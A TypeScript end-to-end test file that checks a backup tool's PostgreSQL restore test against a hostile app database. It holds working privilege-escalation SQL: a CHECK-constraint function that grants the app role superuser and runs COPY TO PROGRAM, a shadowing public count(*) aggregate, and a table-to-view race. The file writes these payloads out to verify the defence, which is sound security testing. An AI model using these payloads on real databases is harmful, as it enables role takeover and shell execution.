import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { COUNT_ROWS, RUN_NO_APP_CODE } from '../../src/backup/postgres.js';
import { type GpgKeyPair, makeGpgKeyPair } from '../helpers/gpg-keys.js';
import { e2eUnavailable, GoliveRunner, TestServer } from '../helpers/test-server.js';

const skip = e2eUnavailable();

/**
 * The app's role owns the app's database, so it writes the code a dump runs when it is restored,
 * and it sets the database's search_path. Each attack here is first shown to make the app role a
 * superuser and run a shell command as the postgres account when golive's old way is played by
 * hand; then `golive test-restore` must run the same code with no such power.
 */

const APP_PASSWORD = 'app-password-for-tests-only';

/** Tries every way up to superuser, each caught so the restore goes on; says in the server log who it ran as. */
const ESCALATE = `
CREATE FUNCTION public.escalate() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  RAISE WARNING 'golive-attack ran as session_user=% current_user=%', session_user, current_user;
  BEGIN EXECUTE 'ALTER ROLE shopapp SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN RESET ROLE; EXECUTE 'ALTER ROLE shopapp SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN SET SESSION AUTHORIZATION postgres; EXECUTE 'ALTER ROLE shopapp SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN COPY (SELECT 1) TO PROGRAM 'touch /tmp/pwned'; EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $$;
CREATE TABLE customers (id serial PRIMARY KEY, name text NOT NULL);
INSERT INTO customers (name) SELECT 'customer ' || n FROM generate_series(1, 25) n;
CREATE TABLE guarded (id int, CHECK (public.escalate()));
INSERT INTO guarded VALUES (1);
`;

/** The live database's search_path puts the app's schema first, where a count(*) of its own escalates. */
const HIJACK_COUNT = `
ALTER DATABASE shop SET search_path = public, pg_catalog;
CREATE FUNCTION public.count_step(n bigint) RETURNS bigint LANGUAGE plpgsql AS $$ BEGIN PERFORM public.escalate(); RETURN n + 1; END $$;
CREATE AGGREGATE public.count(*) (SFUNC = public.count_step, STYPE = bigint, INITCOND = '0');
`;

/** While a superuser's psql waits to count zz_swap, the app turns that empty table into a view that escalates (PostgreSQL 15 still allows it). */
const SWAP_TABLE_FOR_VIEW = `
BEGIN;
LOCK TABLE zz_swap IN ACCESS EXCLUSIVE MODE;
DO $$ BEGIN
  WHILE NOT EXISTS (SELECT 1 FROM pg_locks l JOIN pg_stat_activity a USING (pid)
                    WHERE l.relation = 'public.zz_swap'::regclass AND l.database = (SELECT oid FROM pg_database WHERE datname = 'shop')
                      AND NOT l.granted AND a.application_name = 'psql' AND a.usename = 'postgres') LOOP
    PERFORM pg_stat_clear_snapshot();
    PERFORM pg_sleep(0.01);
  END LOOP;
END $$;
CREATE RULE "_RETURN" AS ON SELECT TO zz_swap DO INSTEAD SELECT 1 AS id WHERE public.escalate();
COMMIT;
`;

const WAIT_FOR_SCRATCH_DATABASE = `
DO $$ BEGIN
  WHILE NOT EXISTS (SELECT 1 FROM pg_database WHERE datname LIKE 'golive\\_restore\\_%') LOOP PERFORM pg_sleep(0.01); END LOOP;
END $$;
`;

/** COUNT_ROWS as golive ran it before: the same query without the guard in front. */
const OLD_COUNT_ROWS = COUNT_ROWS.slice(RUN_NO_APP_CODE.length + 1);

const SCRATCH = /golive_restore_\d{8}t\d{6}z_[0-9a-f]{4}/;

describe('restore test against a hostile app database', { skip }, () => {
  let server: TestServer;
  let golive: GoliveRunner;
  let key: GpgKeyPair;

  const superuserSql = async (database: string, sql: string) => {
    const run = await server.exec(['env', '--chdir=/', 'runuser', '-u', 'postgres', '--', 'psql', '--no-psqlrc', '--quiet', '--no-align', '--tuples-only', '--set=ON_ERROR_STOP=1', `--dbname=${database}`], sql);
    assert.equal(run.exitCode, 0, run.stderr);
    return run.stdout.trim();
  };
  const appSql = (sql: string, timeout = 30) =>
    server.exec(['env', `PGPASSWORD=${APP_PASSWORD}`, 'timeout', String(timeout), 'psql', '--no-psqlrc', '--quiet', '--set=ON_ERROR_STOP=1', '--host=127.0.0.1', '--username=shopapp', '--dbname=shop'], sql);
  const asApp = async (sql: string) => {
    const run = await appSql(sql);
    assert.equal(run.exitCode, 0, run.stderr);
  };
  const superusers = () => superuserSql('postgres', 'SELECT string_agg(rolname, \',\' ORDER BY rolname) FROM pg_roles WHERE rolsuper');
  const pwned = async () => (await server.exec(['test', '-e', '/tmp/pwned'])).exitCode === 0;
  const undoEscalation = async () => {
    await superuserSql('postgres', 'ALTER ROLE shopapp NOSUPERUSER');
    await server.sh('rm -f /tmp/pwned');
  };
  const leftovers = () =>
    superuserSql('postgres', "SELECT rolname FROM pg_roles WHERE rolname LIKE 'golive\\_restore%' UNION ALL SELECT datname FROM pg_database WHERE datname LIKE 'golive\\_restore%'");
  /** Who the attack ran as, from the server log lines written since `mark` (a line count). */
  const logLines = async () => Number((await server.sh('wc -l < /var/log/postgresql/postgresql-15-main.log')).trim());
  const attackRanAs = async (mark: number) =>
    [...(await server.sh(`tail -n +${mark + 1} /var/log/postgresql/postgresql-15-main.log`)).matchAll(/golive-attack ran as session_user=(\S+) current_user=(\S+)/g)].map((m) => `${m[1]}/${m[2]}`);
  const testRestore = () => golive.run(golive.args('deploy', ['test-restore', '--private-key', key.privateKeyFile, '--json']));

  before(async () => {
    key = makeGpgKeyPair('restore-attack@example.com');
    server = await TestServer.boot('e2e-restore-role', 47);
    golive = new GoliveRunner(server);
    await server.sh('until runuser -u postgres -- pg_isready -q; do sleep 0.2; done');
    await superuserSql('postgres', `CREATE ROLE shopapp LOGIN PASSWORD '${APP_PASSWORD}'`);
    await superuserSql('postgres', 'CREATE DATABASE shop OWNER shopapp');
    const mark = await logLines();
    await asApp(ESCALATE);
    assert.deepEqual(await attackRanAs(mark), ['shopapp/shopapp'], 'the app, logged in as itself, runs its own code');
    assert.equal(await superusers(), 'postgres');
    assert.equal(await pwned(), false);
    await golive.run(golive.args('deploy', ['history', '--accept-new-host-key']));
    writeFileSync(join(golive.home, 'golive.yml'), `backup:\n  database: shop\n  gpgPublicKeyFile: ${key.publicKeyFile}\n  gpgRecipient: ${key.email}\n  retentionDays: 30\n`);
    const applied = await golive.run(golive.args('deploy', ['apply', '--only', 'backup', '--yes']));
    assert.equal(applied.exitCode, 0, applied.stderr + applied.stdout);
  });
  after(() => server?.destroy());

  it("restored the old way, as the superuser, the dump's CHECK constraint makes the app superuser and runs a shell command; pg_restore --role does not stop it", async () => {
    await server.sh('cd / && runuser -u postgres -- pg_dump --format=custom --dbname=shop > /var/tmp/shop.dump');
    for (const role of [[], ['--role=shopapp']]) {
      const mark = await logLines();
      await server.sh('cd / && runuser -u postgres -- createdb --owner=shopapp old_way');
      await server.sh(`env --chdir=/ runuser -u postgres -- pg_restore --username=postgres ${role.join(' ')} --no-owner --no-privileges --exit-on-error --dbname=old_way < /var/tmp/shop.dump`);
      assert.equal(await superusers(), 'postgres,shopapp', `escalated with pg_restore ${role.join(' ')}`);
      assert.equal(await pwned(), true);
      assert.deepEqual(await attackRanAs(mark), [role.length ? 'postgres/shopapp' : 'postgres/postgres']);
      await superuserSql('postgres', 'DROP DATABASE old_way');
      await undoEscalation();
    }
  });

  it('golive test-restore runs that code as a throwaway role that is no superuser: nothing escalates, the test passes, nothing is left', async () => {
    const mark = await logLines();
    const restore = await testRestore();
    assert.equal(restore.exitCode, 0, restore.stderr + restore.stdout);
    const result = JSON.parse(restore.stdout) as { ok: boolean; tables: number; rows: number };
    assert.deepEqual([result.ok, result.tables, result.rows], [true, 2, 26]);
    const ranAs = await attackRanAs(mark);
    assert.equal(ranAs.length, 1, 'the CHECK constraint ran once, during the restore');
    assert.match(ranAs[0]!, new RegExp(`^(${SCRATCH.source})/\\1$`), 'session and current user: the scratch role');
    assert.equal(await superusers(), 'postgres');
    assert.equal(await pwned(), false);
    assert.equal(await leftovers(), '');
  });

  it("the live database's search_path and a public.count: the old count escalates, golive's counts with pg_catalog's", async () => {
    await asApp(HIJACK_COUNT);
    let mark = await logLines();
    assert.match(await superuserSql('shop', OLD_COUNT_ROWS), /^public\.customers\|25$/m);
    assert.equal(await superusers(), 'postgres,shopapp');
    assert.equal(await pwned(), true);
    assert.ok((await attackRanAs(mark)).includes('postgres/postgres'));
    await undoEscalation();

    mark = await logLines();
    const restore = await testRestore();
    assert.equal(restore.exitCode, 0, restore.stderr + restore.stdout);
    assert.equal((JSON.parse(restore.stdout) as { rows: number }).rows, 26);
    assert.ok(!(await attackRanAs(mark)).some((who) => who.startsWith('postgres/')), 'nothing of the app ran as postgres');
    assert.equal(await superusers(), 'postgres');
    assert.equal(await pwned(), false);
    assert.equal(await leftovers(), '');
  });

  it('a table swapped for a view while it is counted: the old count runs the view as superuser, golive refuses it', async () => {
    await asApp('ALTER DATABASE shop RESET search_path; CREATE TABLE zz_swap (id int);');
    let mark = await logLines();
    const swapping = appSql(SWAP_TABLE_FOR_VIEW, 60);
    await server.sh(`until [ "$(runuser -u postgres -- psql -XAtd shop -c "SELECT count(*) FROM pg_locks WHERE relation = 'public.zz_swap'::regclass AND mode = 'AccessExclusiveLock' AND granted")" = 1 ]; do sleep 0.05; done`);
    assert.match(await superuserSql('shop', OLD_COUNT_ROWS), /^public\.zz_swap\|1$/m, 'zz_swap was counted as the view');
    assert.equal((await swapping).exitCode, 0);
    assert.equal(await superusers(), 'postgres,shopapp');
    assert.equal(await pwned(), true);
    assert.ok((await attackRanAs(mark)).includes('postgres/postgres'));
    await undoEscalation();
    await asApp('DROP VIEW zz_swap; CREATE TABLE zz_swap (id int);');

    mark = await logLines();
    const swappingDuringGolive = appSql(WAIT_FOR_SCRATCH_DATABASE + SWAP_TABLE_FOR_VIEW, 120);
    const restore = await testRestore();
    const swapped = await swappingDuringGolive;
    assert.equal(swapped.exitCode, 0, swapped.stderr);
    assert.equal(restore.exitCode, 1, restore.stdout);
    assert.match(restore.stderr, /cannot count the rows of shop: ERROR: +access to non-system view "zz_swap" is restricted/);
    assert.equal(await superusers(), 'postgres');
    assert.equal(await pwned(), false);
    assert.ok(!(await attackRanAs(mark)).some((who) => who.startsWith('postgres/')));
    assert.equal(await leftovers(), '');
  });
});
